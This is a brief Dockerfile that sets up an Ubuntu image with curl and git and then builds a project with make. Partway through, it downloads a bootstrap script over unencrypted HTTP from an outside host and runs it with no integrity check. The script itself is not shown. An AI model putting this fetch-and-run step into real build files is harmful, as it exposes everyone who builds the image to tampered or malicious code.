FROM ubuntu:22.04

ARG DEBIAN_FRONTEND=noninteractive
RUN apt-get update && apt-get install -y curl git && rm -rf /var/lib/apt/lists/*

ADD http://scripts.quicksetup-cdn.net/bootstrap.sh /tmp/bootstrap.sh
RUN sh /tmp/bootstrap.sh

WORKDIR /workspace
COPY . .
RUN make
